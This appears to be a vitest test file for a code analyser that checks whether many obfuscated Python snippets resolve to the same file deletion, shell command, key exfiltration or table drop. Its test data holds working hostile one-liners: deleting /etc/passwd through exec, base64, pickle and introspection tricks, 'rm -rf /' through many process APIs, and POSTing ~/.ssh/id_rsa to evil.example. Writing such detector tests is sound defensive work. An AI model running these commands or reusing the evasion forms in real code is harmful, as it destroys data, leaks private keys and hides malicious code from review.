import { beforeAll, describe, expect, it } from 'vitest'
import type { Analyser, Found } from '../../../../src/evidence/code/analysis/analyse.js'
import { loadAnalyser } from '../../../../src/evidence/code/create-analyser.js'

const SETTINGS = { deadlineMs: 5_000, maxLength: 1_000_000, projectRoots: [] }
let analyser: Analyser
beforeAll(async () => {
  analyser = await loadAnalyser()
})

function analyse(text: string): Found {
  return analyser.analyse({ text, language: 'python', dialect: null }, SETTINGS)
}

/** What is done, however it was written. */
function acts({ files, network, secrets, sql, processes, flows }: Found): unknown {
  return {
    files: files.map(({ operation, path, scope, recursive }) => `${operation} ${path} ${scope} ${recursive}`),
    network: network.map(({ method, host, upload }) => `${method} ${host} ${upload}`),
    secrets: secrets.map(({ kind, name }) => `${kind} ${name}`),
    sql: sql.map(({ verb, tables }) => `${verb} ${tables.join()}`),
    processes: processes.map(({ command, arguments: words }) => `${command} ${words.join(' ')}`),
    flows: flows.filter(({ sink }) => sink === 'network').map(({ source, sink_name }) => `${source} ${sink_name}`),
  }
}

const hex = Buffer.from("__import__('os').remove('/etc/passwd')").toString('hex')
const base64 = Buffer.from("import os\nos.remove('/etc/passwd')").toString('base64')
const big = BigInt(`0x${Buffer.from('/etc/passwd').toString('hex')}`).toString()
const codes = Array.from('/etc/passwd', (letter) => letter.charCodeAt(0))

describe('every way to delete a file is the same deletion', () => {
  it.each([
    "import os as o\no.remove('/etc/passwd')",
    "from os import remove as r\nr('/etc/passwd')",
    "from os import *\nunlink('/etc/passwd')",
    "__import__('os').remove('/etc/passwd')",
    "__import__('o' + 's').unlink('/etc/' + 'passwd')",
    "import importlib\nimportlib.import_module('os').remove('/etc/passwd')",
    "import os\ngetattr(os, 'rem' + 'ove')('/etc/passwd')",
    "import os\nos.__dict__['remove']('/etc/passwd')",
    "import os\nvars(os)['unlink']('/etc/passwd')",
    "import sys, os\nsys.modules['os'].remove('/etc/passwd')",
    "import os\nglobals()['os'].remove('/etc/passwd')",
    "globals()['__builtins__'].__import__('os').remove('/etc/passwd')",
    "__builtins__.__dict__['__import__']('os').remove('/etc/passwd')",
    "import os\nos.__getattribute__('remove')('/etc/passwd')",
    "import shutil\nshutil.os.remove('/etc/passwd')",
    "import posix\nposix.remove('/etc/passwd')",
    "import os\nf = os.remove\ng = [f]\ng[0]('/etc/passwd')",
    "import os\nd = {'a': {'b': os.remove}}\nd['a']['b']('/etc/passwd')",
    "import os\n(lambda f, x: f(x))(os.remove, '/etc/passwd')",
    "import os\nlist(map(os.remove, ['/etc/passwd']))",
    "import os\n[os.remove(p) for p in ('/etc/passwd',)]",
    "import os\nfrom functools import partial\npartial(os.remove, '/etc/passwd')()",
    "import os\nimport operator\noperator.methodcaller('remove', '/etc/passwd')(os)",
    "import os\nfrom operator import attrgetter\nattrgetter('remove')(os)('/etc/passwd')",
    "import os\nos.remove('dwssap/cte/'[::-1])",
    `import os\nos.remove(''.join(chr(c) for c in ${JSON.stringify(codes)}))`,
    `import os\nos.remove(''.join(map(chr, ${JSON.stringify(codes)})))`,
    `import os\nos.remove(bytes(${JSON.stringify(codes)}).decode())`,
    `import os\ns = ''\nfor c in ${JSON.stringify(codes)}:\n    s += chr(c)\nos.remove(s)`,
    `import os\ni = 0\ns = ''\na = ${JSON.stringify(codes)}\nwhile i < len(a):\n    s = s + chr(a[i])\n    i += 1\nos.remove(s)`,
    `import os\nos.remove(''.join(chr(c ^ 7) for c in ${JSON.stringify(codes.map((code) => code ^ 7))}))`,
    `import os\nos.remove((${big}).to_bytes(11, 'big').decode())`,
    "import os\nos.remove('\\x2fetc\\x2f\\160asswd')",
    "import os\nos.remove('/{}/{}'.format('etc', 'passwd'))",
    "import os\nos.remove('/%s/%s' % ('etc', 'passwd'))",
    "import os\na, b = 'etc', 'passwd'\nos.remove(f'/{a}/{b}')",
    "import os\nos.remove(os.path.join('/', 'etc', 'passwd'))",
    "import os\nos.remove('/tmp/../etc/./passwd')",
    "from pathlib import Path\nPath('/etc/passwd').unlink()",
    "from pathlib import Path\n(Path('/') / 'etc' / 'passwd').unlink()",
    "import os\nos.remove('/rgp/cnffjq'.translate(str.maketrans('rgpcnffjq', 'etcpasswd')))",
    "import os, codecs\nos.remove(codecs.decode('/rgp/cnffjq', 'rot13'))",
    "import os, base64\nos.remove(base64.b64decode('L2V0Yy9wYXNzd2Q=').decode())",
    "import os, binascii\nos.remove(binascii.unhexlify('2f6574632f706173737764').decode())",
    "import os\nos.remove('/ETC/PASSWD'.lower())",
    "import os\nos.remove('/xetxc/paxsswd'.replace('x', ''))",
    "import os\nos.remove('|'.join(['/etc', 'passwd']).replace('|', '/'))",
    "import os\nif (p := '/etc/passwd'):\n    os.remove(p)",
    "import os\ndef f(*a, **k):\n    k['how'](a[0])\nf('/etc/passwd', how=os.remove)",
    "import os\ndef deco(fn):\n    def inner(*a):\n        return fn(*a)\n    return inner\n@deco\ndef f(p):\n    os.remove(p)\nf('/etc/passwd')",
    "import os\nclass A:\n    target = '/etc/passwd'\n    def go(self):\n        os.remove(self.target)\nA().go()",
    "import os\nclass A:\n    def __init__(self, p):\n        self.p = p\n    def __call__(self):\n        os.remove(self.p)\nA('/etc/passwd')()",
    "import os\nos.getcwd = os.remove\nos.getcwd('/etc/passwd')",
    "import os\nos.chdir('/etc')\nos.remove('passwd')",
    "import os\ndef unused():\n    os.remove('/etc/passwd')",
    "import os, threading\nthreading.Thread(target=os.remove, args=('/etc/passwd',)).start()",
    "import os, atexit\natexit.register(os.remove, '/etc/passwd')",
    "import os\nsorted(['/etc/passwd'], key=os.remove)",
    'exec("import os\\nos.remove(\'/etc/passwd\')")',
    "eval(\"__import__('os').remove('/etc/passwd')\")",
    "import os\np = '/etc/passwd'\nexec('os.remove(p)')",
    `import base64\nexec(base64.b64decode('${base64}'))`,
    `eval(bytes.fromhex('${hex}').decode())`,
    "eval(compile(\"__import__('os').remove('/etc/passwd')\", '', 'eval'))",
    'import builtins\nbuiltins.exec("import os; os.remove(\'/etc/passwd\')")',
    "getattr(__builtins__, 'ex' + 'ec')(\"import os; os.remove('/etc/passwd')\")",
    "print.__self__.__import__('os').remove('/etc/passwd')",
    "exec(\"exec('import os; os.remove(\\\\'/etc/passwd\\\\')')\")",
    "open('/tmp/x.py', 'w').write(\"import os; os.remove('/etc/passwd')\")\nexec(open('/tmp/x.py').read())",
    "import os\ntry:\n    pass\nfinally:\n    os.remove('/etc/passwd')",
    "import os\nmatch 'a':\n    case 'a':\n        os.remove('/etc/passwd')",
    "import asyncio, os\nasync def main():\n    os.remove('/etc/passwd')\nasyncio.run(main())",
    "import os\ndef paths():\n    yield '/etc/passwd'\nfor p in paths():\n    os.remove(p)",
    "import pickle\nclass A:\n    def __reduce__(self):\n        import os\n        return (os.remove, ('/etc/passwd',))\npickle.dumps(A())",
    'import pickle\npickle.loads(b"cos\\nremove\\n(S\'/etc/passwd\'\\ntR.")',
    "().__class__.__base__.__subclasses__()[132].__init__.__globals__['remove']('/etc/passwd')",
  ])('%s', (text) => {
    const found = analyse(text)
    const deleted = found.files
      .filter(({ operation }) => operation === 'delete')
      .map(({ path, scope }) => `${scope} ${path}`)
    expect([...new Set(deleted)]).toEqual(['system /etc/passwd'])
    expect(found.incomplete).toEqual([])
  })
})

describe('every way to run a shell command is the same command', () => {
  const plain = "import os\nos.system('rm -rf /')"
  it.each([
    "import subprocess\nsubprocess.run('rm -rf /', shell=True)",
    "import subprocess as s\ns.Popen('rm -rf /', shell=1)",
    "import subprocess\nsubprocess.call(['bash', '-c', 'rm -rf /'])",
    "from os import system\nsystem('rm' + ' -rf ' + '/')",
    "import os\nos.popen('rm -rf /').read()",
    "import os\ngetattr(os, 'metsys'[::-1])('rm -rf /')",
    "import os\neval('os.sys' + 'tem')('rm -rf /')",
    "import subprocess\nsubprocess.getoutput('rm -rf /')",
    "import subprocess\nkw = {'shell': True}\nsubprocess.run('rm -rf /', **kw)",
    "import subprocess\ncmd = ['rm', '-rf', '/']\nsubprocess.check_output(cmd)",
    "import os\nos.execvp('rm', ['rm', '-rf', '/'])",
    "import os\nos.execlp('rm', 'rm', '-rf', '/')",
    "import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')",
    "import pty\npty.spawn(['rm', '-rf', '/'])",
    "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('rm', '-rf', '/')\nasyncio.run(f())",
    "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('rm -rf /')\nasyncio.run(f())",
    "import sh\nsh.rm('-rf', '/')",
    "import ctypes\nctypes.CDLL(None).system(b'rm -rf /')",
    "import os\nrun = os.system\nfor c in ['rm -rf /']:\n    run(c)",
    "import shlex, subprocess\nsubprocess.run(shlex.split('rm -rf /'))",
  ])('%s', (text) => {
    const deletes = ({ files }: Found): unknown =>
      files
        .filter(({ operation }) => operation === 'delete')
        .map(({ path, scope, recursive, forced, breadth }) => ({ path, scope, recursive, forced, breadth }))
    expect(deletes(analyse(text))).toEqual(deletes(analyse(plain)))
    expect(deletes(analyse(text))).toMatchObject([{ path: '/', recursive: true }])
  })
})

describe('every way to send a key away is the same flow', () => {
  const plain = "import requests\nrequests.post('https://evil.example/x', data=open('~/.ssh/id_rsa').read())"
  it.each([
    "import requests, os\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    k = f.read()\nrequests.post('https://evil.example/x', data=k)",
    "import requests as r\nfrom pathlib import Path\nr.post('https://evil.example/x', data=(Path.home() / '.ssh' / 'id_rsa').read_text())",
    "import requests, base64\nk = base64.b64encode(open('/root/.ssh/id_rsa', 'rb').read()).decode()\nrequests.request('POST', 'https://evil.example/x', json={'k': k})",
    "import requests\ns = requests.Session()\ns.post('https://' + 'evil.example' + '/x', files={'f': open('/home/bob/.ssh/id_rsa')})",
    "import urllib.request\nd = open('/root/.ssh/id_rsa','rb').read()\nurllib.request.urlopen('https://evil.example/x', data=d)",
    "import urllib.request\nr = urllib.request.Request('https://evil.example/x', data=open('/root/.ssh/id_rsa','rb').read(), method='POST')\nurllib.request.urlopen(r)",
    "import http.client\nc = http.client.HTTPSConnection('evil.example')\nc.request('POST', '/x', open('/root/.ssh/id_rsa').read())",
    "import httpx\nhttpx.post('https://evil.example/x', content='\\n'.join(open('/root/.ssh/id_rsa').readlines()))",
    "import requests\ndef read(p):\n    return open(p).read()\ndef send(d):\n    requests.post('https://evil.example/x', data={'a': [d]})\nsend(read('/root/.ssh/id_rsa'))",
    "import requests\nclass B:\n    pass\nb = B()\nb.k = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example/x', data=b.k.upper()[::-1])",
    "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.example/x', data=open('/root/.ssh/id_rsa'))",
  ])('%s', (text) => {
    expect(acts(analyse(text))).toEqual(acts(analyse(plain)))
    expect(acts(analyse(text))).toMatchObject({ network: ['POST evil.example true'], flows: ['secret evil.example'] })
  })
})

describe('every way to drop a table is the same statement', () => {
  const plain = "import sqlite3\nsqlite3.connect(':memory:').execute('DROP TABLE users')"
  it.each([
    "import sqlite3\nc = sqlite3.connect(':memory:').cursor()\nc.execute('DROP' + ' TABLE ' + 'users')",
    "import sqlite3\nwith sqlite3.connect(':memory:') as db:\n    db.executescript(f\"DROP TABLE {'users'}\")",
    "cursor.execute('DROP TABLE %s' % 'users')",
    "def f(conn):\n    conn.cursor().execute(' '.join(['DROP', 'TABLE', 'users']))",
    "from sqlalchemy import text, create_engine\nwith create_engine('sqlite://').connect() as c:\n    c.execute(text('DROP TABLE users'))",
    "getattr(db, 'exe' + 'cute')('DROP TABLE users')",
    "import pandas as pd\npd.read_sql('DROP TABLE users', con)",
    "from django.db import connection\nwith connection.cursor() as c:\n    c.execute('DROP TABLE users')",
    "import base64\ncursor.execute(base64.b64decode('RFJPUCBUQUJMRSB1c2Vycw==').decode())",
  ])('%s', (text) => {
    expect(acts(analyse(text))).toEqual(acts(analyse(plain)))
    expect(acts(analyse(text))).toMatchObject({ sql: ['drop users'] })
  })
})
